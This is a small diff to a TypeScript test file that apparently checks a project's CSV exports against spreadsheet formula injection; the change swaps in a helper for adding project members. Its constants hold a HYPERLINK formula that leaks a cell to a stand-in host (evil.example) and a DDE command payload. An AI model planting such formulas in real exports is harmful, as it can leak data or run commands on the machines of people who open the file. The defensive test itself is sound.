@@ -10,7 +10,7 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { assertWellFormed } from '@concord/charts/testing';
 import { EXPORT_FILES, type CodebookInput, type ExportFile, type Role } from '@concord/shared';
-import { createHarness, json, signUp, signUpTeam, type Harness, type Session } from './harness.ts';
+import { addToProject, createHarness, json, signUp, signUpTeam, type Harness, type Session } from './harness.ts';
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
 const PLUS = "+cmd|' /C calc'!A0";
@@ -79,7 +79,7 @@ beforeAll(async () => {
   const project = await json<{ id: string }>(await call(team.owner, 'POST', '', { name: MARKUP, description: '' }));
   projectId = project.id;
   for (const [who, role] of [[team.editor, 'editor'], [team.methodologist, 'methodologist'], [team.coder, 'coder'], [coder2, 'coder']] as const) {
-    await call(team.owner, 'POST', `/${projectId}/members`, { email: who.email, role });
+    await addToProject(h, team.owner, projectId, who, role);
   }
   await call(team.owner, 'PUT', `/${projectId}/codebook`, { ...HOSTILE_CODEBOOK, baseVersion: 1 });
   const item = await json<{ id: string }>(await call(team.editor, 'POST', `/${projectId}/items`, { title: FORMULA, externalId: AT, platform: 'facebook' }));
